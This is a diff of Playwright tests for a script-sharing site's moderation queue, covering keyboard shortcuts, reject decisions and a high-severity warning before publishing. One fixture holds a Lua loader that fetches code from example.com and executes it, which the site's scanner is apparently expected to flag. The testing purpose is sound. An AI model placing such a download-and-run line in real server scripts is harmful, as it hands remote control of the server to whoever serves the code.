@@ -23,7 +23,7 @@ async function openReport(page: Page, dialog: Locator): Promise<void> {
 
 const publishOption = (page: Page) => page.getByRole('radio', { name: /^Publish/ })
 
-test('a moderator decides 20 reviews with at most 40 key presses, and the next case opens by itself', async ({
+test('a moderator rejects 20 reviews with at most 40 key presses, and the next case opens by itself', async ({
   browser,
 }) => {
   const author = await app.register('author', 'verified')
@@ -48,21 +48,57 @@ test('a moderator decides 20 reviews with at most 40 key presses, and the next c
   await press('Enter')
   for (const [index, name] of names.entries()) {
     await expect(page.getByRole('heading', { level: 1, name })).toBeVisible()
-    await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
-    if (index % 7 === 3) {
-      await press('r')
-      await expect(page.getByRole('textbox', { name: 'Response' })).toBeFocused()
-      await press('Alt+2')
-      await expect(page.getByRole('textbox', { name: 'Response' })).toHaveValue(/cannot be read/)
+    const number = 2 + (index % 8)
+    if (index % 2 === 0) {
+      // Without waiting for the claim: the decision is kept for it.
+      await press(String(number))
+      await expect(page.getByRole('radio', { name: /^Reject/ })).toBeChecked()
       await press('Control+Enter')
-    } else await press('p')
+    } else {
+      await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
+      await press(`Shift+Digit${number}`)
+    }
   }
 
   await expect(page).toHaveURL('/admin/moderation')
   await expect(page.getByText('No version waits for review.')).toBeVisible()
   expect(presses).toBeLessThanOrEqual(40)
-  const { body } = await requireSuccess(app.url, app.site, 'GET', `/api/scripts?author=${author.username}`)
-  expect(body.pagination.total).toBe(17)
+  const { body } = await requireSuccess(app.url, author, 'GET', '/api/cases/mine?limit=50')
+  const decisions = body.cases.map(({ decision }: { decision: string }) => decision)
+  expect(decisions).toEqual(names.map(() => 'rejected'))
+  await page.close()
+})
+
+test('the key that publishes asks once for a version with a finding of severity high', async ({
+  browser,
+}) => {
+  const author = await app.register('author', 'verified')
+  const content = "PerformHttpRequest('https://example.com/x', function(_, body) load(body)() end)"
+  const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\n"
+  const archive = zipOf([
+    { name: 'loader/fxmanifest.lua', content: manifest, deflate: true },
+    { name: 'loader/server.lua', content, deflate: true },
+  ])
+  const name = uniqueName('Loader')
+  await app.submit(author, name, archive)
+  const plain = uniqueName('Plain')
+  await app.submit(author, plain)
+  await app.expectWaiting(2)
+  const page = await app.openPage(browser, await app.register('moderator', 'moderator'), '/admin/moderation')
+  const row = page.getByRole('main').getByRole('listitem').filter({ hasText: name })
+  await expect(row.getByText(/Runs code that it downloads/)).toBeVisible()
+  await row.getByRole('link').click()
+  await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
+
+  await page.keyboard.press('p')
+  await expect(page.getByText('This version has a finding of severity high')).toBeVisible()
+  await expect(publishOption(page)).toBeChecked()
+  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible()
+  await page.keyboard.press('p')
+  await expect(page.getByRole('heading', { level: 1, name: plain })).toBeVisible()
+  await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
+  await page.keyboard.press('p')
+  await expect(page.getByText('No version waits for review.')).toBeVisible()
   await page.close()
 })
 
@@ -195,12 +231,18 @@ test('the author sees the place in the queue; another moderator sees who works o
   // Decided elsewhere, after the page was loaded.
   const id = new URL(page.url()).pathname.split('/').pop()
   await expect(publishOption(page)).toHaveAttribute('aria-keyshortcuts', 'p')
+  await page.getByRole('textbox', { name: 'Response' }).fill('Please name the author of the hangar.')
+  await page.keyboard.press('Escape')
   await requireSuccess(app.url, first, 'POST', `/api/moderation/cases/${id}/decide`, {
     decision: 'published',
   })
   await page.keyboard.press('p')
   await expect(page.getByRole('alert').filter({ hasText: /closed|decided/i })).toBeVisible()
   await expect(page.getByRole('heading', { name: 'Published' })).toBeVisible()
+  // What was typed can still be copied.
+  await expect(page.getByRole('textbox', { name: 'Your response' })).toHaveValue(
+    'Please name the author of the hangar.',
+  )
   await Promise.all([authorPage.close(), page.close(), late.close()])
 })
 
